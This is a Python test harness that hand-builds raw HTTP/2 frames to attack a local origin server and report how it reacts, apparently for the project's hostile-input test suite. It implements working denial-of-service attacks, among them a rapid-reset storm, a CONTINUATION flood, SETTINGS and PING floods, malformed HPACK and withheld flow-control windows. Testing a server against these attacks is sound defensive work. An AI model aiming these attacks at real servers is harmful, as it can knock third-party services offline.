#!/usr/bin/env python3
"""HTTP/2 attacks on an origin, frame by frame, for tests/hostile/h2_abuse.rs.

The client is Python's ssl (OpenSSL) with the edge's certificate, ALPN h2 only; frames
are built by hand (a 9-byte header and a payload: the point is to send what a correct
HTTP/2 library refuses to), header blocks are encoded with PyPI `hpack` and what the
server sends is parsed with PyPI `hyperframe` and decoded with `hpack`: no aop code on
this side. Every attack first checks that the handshake negotiated h2 and that the
server's SETTINGS arrived, so no outcome can come from a connection that never reached
HTTP/2.

Lines on stdout: `HELD {json}` when an attack that holds (--hold) has written its flood
and waits for a line on stdin before it reads again; `RESULT {json}` at the end: the
negotiated protocol, the server's SETTINGS, the GOAWAY (error name, last stream id,
debug data), whether the connection closed, RST_STREAM codes by stream, statuses by
stream, SETTINGS/PING acknowledgements, and what the attack itself counted.

Run with the virtualenv of .ci/peers (h2, hyperframe, hpack):
  .peers/venv/bin/python tests/h2abuse/attack.py --port 8443 --sni a.test \\
      --ca origin-ca/ca.pem --cert edge/cert.pem --key edge/key.pem data-on-stream-0
"""

import argparse
import asyncio
import json
import socket
import ssl
import struct
import sys
import time

import hpack
from h2.errors import ErrorCodes
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
END_STREAM, ACK, END_HEADERS = 0x1, 0x1, 0x4
SETTINGS_INITIAL_WINDOW_SIZE = 0x4
CANCEL = 0x8


def frame(kind, flags, stream, payload=b""):
    """One frame as bytes: length (24 bits), type, flags, stream id (31 bits), payload."""
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def error_name(code):
    try:
        return ErrorCodes(code).name
    except ValueError:
        return str(code)


class Conn:
    """A client connection: what it sent and what the server said."""

    def __init__(self, reader, writer, args):
        self.r, self.w, self.args = reader, writer, args
        self.enc = hpack.Encoder()
        self.dec = hpack.Decoder()
        self.dec.max_header_list_size = 1 << 20
        self.withhold = False  # send no WINDOW_UPDATE for DATA received
        self.closed = False
        self.goaway = None
        self.server_settings = None
        self.settings_acks = 0
        self.ping_acks = 0
        self.resets = {}
        self.statuses = {}
        self.data = {}
        self.headers_open = None  # (stream, block) of a HEADERS awaiting CONTINUATION
        self.frames = 0
        self.alpn = writer.get_extra_info("ssl_object").selected_alpn_protocol()

    def send(self, data):
        self.w.write(data)

    async def flush(self, timeout=10):
        await asyncio.wait_for(self.w.drain(), timeout)

    def request(self, stream, path="/", method="GET", end_stream=True, extra=(), huffman=True):
        """A HEADERS frame (END_HEADERS) opening `stream`."""
        block = self.block(path, method, extra, huffman)
        flags = END_HEADERS | (END_STREAM if end_stream else 0)
        return frame(HEADERS, flags, stream, block)

    def block(self, path="/", method="GET", extra=(), huffman=True):
        fields = [(":method", method), (":scheme", "https"), (":authority", self.args.sni), (":path", path)]
        return self.enc.encode(fields + list(extra), huffman=huffman)

    async def read_frame(self, timeout):
        """Read and handle one frame: True, or None if none began within `timeout`, or
        False once the connection has closed."""
        try:
            head = await asyncio.wait_for(self.r.readexactly(9), timeout)
        except asyncio.TimeoutError:
            return None
        except (asyncio.IncompleteReadError, ConnectionError, ssl.SSLError, OSError):
            self.closed = True
            return False
        f, length = Frame.parse_frame_header(memoryview(head))
        try:
            body = await asyncio.wait_for(self.r.readexactly(length), 10)
        except (asyncio.TimeoutError, asyncio.IncompleteReadError, ConnectionError, ssl.SSLError, OSError):
            self.closed = True
            return False
        f.parse_body(memoryview(body))
        self.frames += 1
        self.handle(f)
        return True

    def handle(self, f):
        if isinstance(f, SettingsFrame):
            if "ACK" in f.flags:
                self.settings_acks += 1
            else:
                if self.server_settings is None:
                    self.server_settings = {str(k): v for k, v in f.settings.items()}
                self.send(frame(SETTINGS, ACK, 0))
        elif isinstance(f, PingFrame):
            if "ACK" in f.flags:
                self.ping_acks += 1
            else:
                self.send(frame(PING, ACK, 0, f.opaque_data))
        elif isinstance(f, GoAwayFrame):
            self.goaway = {
                "error": error_name(f.error_code),
                "last_stream_id": f.last_stream_id,
                "debug": f.additional_data.decode("latin-1"),
            }
        elif isinstance(f, RstStreamFrame):
            self.resets[str(f.stream_id)] = error_name(f.error_code)
        elif isinstance(f, (HeadersFrame, ContinuationFrame)):
            if isinstance(f, HeadersFrame):
                self.headers_open = (f.stream_id, bytes(f.data))
            else:
                self.headers_open = (f.stream_id, self.headers_open[1] + bytes(f.data))
            if "END_HEADERS" in f.flags:
                stream, block = self.headers_open
                self.headers_open = None
                for name, value in self.dec.decode(block):
                    if name == ":status":
                        self.statuses[str(stream)] = int(value)
        elif isinstance(f, DataFrame):
            n = f.flow_controlled_length
            self.data[str(f.stream_id)] = self.data.get(str(f.stream_id), 0) + len(f.data)
            if n and not self.withhold:
                inc = struct.pack(">I", n)
                self.send(frame(WINDOW_UPDATE, 0, 0, inc) + frame(WINDOW_UPDATE, 0, f.stream_id, inc))

    async def read_until(self, done, timeout):
        """Read frames until `done()`, the connection closes, or `timeout` seconds pass;
        whether `done()` held."""
        deadline = time.monotonic() + timeout
        while not done():
            left = deadline - time.monotonic()
            if left <= 0 or not await self.read_frame(left):
                return done()  # the deadline, or the connection closed
            try:
                await self.flush(max(left, 0.1))
            except (asyncio.TimeoutError, ConnectionError, ssl.SSLError, OSError):
                pass
        return True

    async def read_to_end(self, timeout):
        """Read until the server closes the connection (or `timeout`)."""
        return await self.read_until(lambda: self.closed, timeout)

    def result(self, **extra):
        out = {
            "alpn": self.alpn,
            "server_settings": self.server_settings,
            "goaway": self.goaway,
            "closed": self.closed,
            "resets": self.resets,
            "statuses": self.statuses,
            "data": self.data,
            "settings_acks": self.settings_acks,
            "ping_acks": self.ping_acks,
        }
        out.update(extra)
        return out


async def open_conn(args):
    ctx = ssl.create_default_context(cafile=args.ca)
    ctx.load_cert_chain(args.cert, args.key)
    ctx.set_alpn_protocols(["h2"])
    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    if args.rcvbuf:
        # A small receive buffer (set before connecting, so the window is small from the
        # start): a server that kept writing while the client reads nothing is soon stuck.
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, args.rcvbuf)
    sock.setblocking(False)
    await asyncio.wait_for(asyncio.get_running_loop().sock_connect(sock, ("127.0.0.1", args.port)), 10)
    reader, writer = await asyncio.wait_for(
        asyncio.open_connection(sock=sock, ssl=ctx, server_hostname=args.sni, limit=args.rcvbuf or 65536), 10
    )
    c = Conn(reader, writer, args)
    if c.alpn != "h2":
        raise SystemExit(f"the server chose {c.alpn!r}, not h2: nothing would be tested")
    # The preface and our SETTINGS, then the server's SETTINGS (acknowledged in handle)
    # and its acknowledgement of ours: HTTP/2 is up.
    initial = b"" if args.window is None else struct.pack(">HI", SETTINGS_INITIAL_WINDOW_SIZE, args.window)
    c.send(PREFACE + frame(SETTINGS, 0, 0, initial))
    await c.flush()
    if not await c.read_until(lambda: c.server_settings is not None and c.settings_acks >= 1, 10):
        raise SystemExit("no SETTINGS exchange with the server: HTTP/2 did not start")
    c.settings_acks = 0
    return c


async def hold(c, **said):
    """Say what was written, and wait for the test's go-ahead on stdin."""
    print("HELD " + json.dumps(said), flush=True)
    await asyncio.get_running_loop().run_in_executor(None, sys.stdin.readline)


async def write_flood(c, chunk, count, per_write):
    """Write up to `count` copies of `chunk`, `per_write` at a time, reading nothing; stop
    when a write has not drained for 2 s (the server stopped reading). Returns the copies
    handed to the connection (the last, stalled write included: it goes out once the
    server reads again) and whether it stalled."""
    written = 0
    while written < count:
        n = min(per_write, count - written)
        c.send(chunk * n)
        written += n
        try:
            await c.flush(2)
        except asyncio.TimeoutError:
            return written, True
        except (ConnectionError, ssl.SSLError, OSError):
            c.closed = True
            return written, False
    return written, False


async def attack(args):
    c = await open_conn(args)
    extra = {}
    a = args.attack
    if a == "data-on-stream-0":
        c.send(frame(DATA, 0, 0, b"x" * 8))
        await c.read_to_end(10)
    elif a == "bad-hpack":
        # An indexed field naming entry 255: past the static table, and the dynamic
        # table is empty.
        c.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, b"\xff\x80\x01"))
        await c.read_to_end(10)
    elif a == "oversized-frame":
        limit = (c.server_settings or {}).get("5", 16384)  # SETTINGS_MAX_FRAME_SIZE
        c.send(c.request(1, "/", "POST", end_stream=False))
        c.send(frame(DATA, 0, 1, b"x" * (limit + 1)))
        extra["length"] = limit + 1
        await c.read_to_end(10)
    elif a in ("settings-flood", "ping-flood"):
        one = frame(SETTINGS, 0, 0, struct.pack(">HI", SETTINGS_INITIAL_WINDOW_SIZE, 65535)) if a == "settings-flood" \
            else frame(PING, 0, 0, b"flooding")
        written, stalled = await write_flood(c, one, args.count, 500)
        extra.update(written=written, stalled=stalled)
        if args.hold:
            await hold(c, written=written, stalled=stalled)
        # Now read: every frame written must be acknowledged, then a request is served.
        acks = (lambda: c.settings_acks) if a == "settings-flood" else (lambda: c.ping_acks)
        await c.read_until(lambda: acks() >= written or c.goaway is not None, 60)
        if not c.closed and c.goaway is None:
            c.send(c.request(1))
            await c.flush()
            await c.read_until(lambda: "1" in c.statuses or c.closed, 10)
    elif a == "continuation-flood":
        # A header whose value is declared 1 MiB long, then CONTINUATION frames of it
        # that never end the header block, one at a time: the next only if no GOAWAY
        # came within half a second (a frame written after the server stopped reading
        # would turn its close into a TCP reset that can overtake the GOAWAY).
        block = c.block() + b"\x00\x05x-pad" + b"\x7f" + hpack_int(1 << 20, 7)
        c.send(frame(HEADERS, END_STREAM, 1, block))
        sent = 0
        for _ in range(args.count):
            c.send(frame(CONTINUATION, 0, 1, b"a" * 1024))
            sent += 1
            try:
                await c.flush(5)
            except (asyncio.TimeoutError, ConnectionError, ssl.SSLError, OSError):
                break
            if await c.read_until(lambda: c.goaway is not None or c.closed, 0.5):
                break
        extra["continuations_sent"] = sent
        await c.read_to_end(10)
    elif a == "big-headers":
        # One request whose header list is args.size bytes as HTTP/2 counts it (name +
        # value + 32 per field), in HEADERS and CONTINUATION frames of 16 KiB; once it is
        # answered (and only then: bytes the server never reads would turn its close into
        # a TCP reset that can overtake its GOAWAY), a well-behaved request on stream 3.
        pseudo = (7 + 3) + (7 + 5) + (10 + len(args.sni)) + (5 + 1) + 4 * 32
        value = "a" * max(1, args.size - pseudo - (5 + 32))
        block = c.block(extra=[("x-big", value)], huffman=False)
        chunks = [block[i:i + 16384] for i in range(0, len(block), 16384)]
        for i, piece in enumerate(chunks):
            last = END_HEADERS if i == len(chunks) - 1 else 0
            kind = HEADERS if i == 0 else CONTINUATION
            c.send(frame(kind, last | (END_STREAM if i == 0 else 0), 1, piece))
        extra["block_bytes"] = len(block)
        try:
            await c.flush()
        except (ConnectionError, ssl.SSLError, OSError):
            pass
        await c.read_until(lambda: "1" in c.statuses or c.goaway is not None, 10)
        if c.goaway is None and not c.closed:
            c.send(c.request(3))
            await c.flush()
            await c.read_until(lambda: "3" in c.statuses, 10)
        else:
            await c.read_to_end(10)
    elif a == "reset-storm":
        # HEADERS then RST_STREAM(CANCEL) for the same stream, `count` times, in writes
        # of --batch pairs. With --sync, each batch's HEADERS go first and a PING after them;
        # the RST_STREAMs follow only once the PING is acknowledged, so the server has
        # taken the requests (and started them) before they are cancelled.
        stream, pairs, batch = 1, 0, args.batch
        path = args.path
        while pairs < args.count and not c.closed and c.goaway is None:
            n = min(batch, args.count - pairs)
            ids = [stream + 2 * i for i in range(n)]
            stream += 2 * n
            try:
                if args.sync:
                    c.send(b"".join(c.request(i, path) for i in ids) + frame(PING, 0, 0, b"syncsync"))
                    await c.flush()
                    before = c.ping_acks
                    await c.read_until(lambda: c.ping_acks > before or c.goaway is not None, 10)
                    c.send(b"".join(frame(RST_STREAM, 0, i, struct.pack(">I", CANCEL)) for i in ids))
                else:
                    c.send(b"".join(c.request(i, path) + frame(RST_STREAM, 0, i, struct.pack(">I", CANCEL)) for i in ids))
                await c.flush()
            except (asyncio.TimeoutError, ConnectionError, ssl.SSLError, OSError):
                break
            pairs += n
            # What the server said to this batch, before the next (a batch written after
            # the server stopped reading would turn its close into a TCP reset that can
            # overtake its GOAWAY).
            await c.read_until(lambda: c.goaway is not None or c.closed, 0.3)
        extra["pairs_sent"] = pairs
        await c.read_until(lambda: c.closed, 10)
    elif a == "too-many-streams":
        # `count` requests with bodies still to come, so every stream stays open; a PING
        # after them; then the bodies' ends.
        ids = [1 + 2 * i for i in range(args.count)]
        c.send(b"".join(c.request(i, "/", "POST", end_stream=False) for i in ids) + frame(PING, 0, 0, b"syncsync"))
        await c.flush()
        await c.read_until(lambda: c.ping_acks >= 1 or c.goaway is not None, 10)
        refused = [i for i in ids if c.resets.get(str(i)) == "REFUSED_STREAM"]
        c.send(b"".join(frame(DATA, END_STREAM, i, b"") for i in ids if str(i) not in c.resets))
        await c.flush()
        await c.read_until(lambda: len(c.statuses) + len(c.resets) >= len(ids) or c.goaway is not None, 20)
        extra["refused_before_bodies"] = len(refused)
    elif a == "withhold-window":
        # SETTINGS_INITIAL_WINDOW_SIZE (--window, e.g. 0) and no WINDOW_UPDATE ever: the
        # response can never be sent.
        c.withhold = True
        c.send(c.request(1, args.path))
        await c.flush()
        started = time.monotonic()
        await c.read_until(lambda: "1" in c.resets or c.goaway is not None, args.wait)
        extra["waited_secs"] = round(time.monotonic() - started, 2)
    else:
        raise SystemExit(f"unknown attack {a}")
    try:
        c.w.close()
    except Exception:
        pass
    print("RESULT " + json.dumps(c.result(**extra)), flush=True)


def hpack_int(value, prefix_bits):
    """The continuation bytes of an HPACK integer whose prefix is all ones (RFC 7541 5.1)."""
    value -= (1 << prefix_bits) - 1
    out = bytearray()
    while value >= 128:
        out.append((value % 128) + 128)
        value //= 128
    out.append(value)
    return bytes(out)


def main():
    p = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    p.add_argument("--port", type=int, required=True)
    p.add_argument("--sni", required=True)
    p.add_argument("--ca", required=True)
    p.add_argument("--cert", required=True)
    p.add_argument("--key", required=True)
    p.add_argument("--count", type=int, default=1000)
    p.add_argument("--size", type=int, default=20000)
    p.add_argument("--path", default="/")
    p.add_argument("--window", type=int, default=None, help="SETTINGS_INITIAL_WINDOW_SIZE to send")
    p.add_argument("--wait", type=float, default=20)
    p.add_argument("--sync", action="store_true")
    p.add_argument("--batch", type=int, default=100, help="reset-storm: streams per write")
    p.add_argument("--rcvbuf", type=int, default=0, help="SO_RCVBUF of the client's socket")
    p.add_argument("--hold", action="store_true")
    p.add_argument("attack", choices=[
        "data-on-stream-0", "bad-hpack", "oversized-frame", "settings-flood", "ping-flood",
        "continuation-flood", "big-headers", "reset-storm", "too-many-streams", "withhold-window",
    ])
    asyncio.run(attack(p.parse_args()))


if __name__ == "__main__":
    main()
